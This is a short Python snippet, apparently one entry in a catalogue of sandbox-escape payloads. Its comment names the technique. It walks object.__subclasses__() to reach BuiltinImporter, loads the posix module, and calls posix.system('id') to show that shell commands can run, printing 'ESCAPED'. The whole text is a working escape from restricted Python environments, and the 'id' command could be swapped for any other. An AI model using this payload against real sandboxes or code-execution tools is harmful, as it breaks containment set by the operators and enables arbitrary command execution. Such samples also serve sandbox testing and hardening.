# class: __subclasses__ walk to the import machinery (BuiltinImporter)
imp = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
posix = imp.load_module("posix")
print("ESCAPED", posix.system("id"))
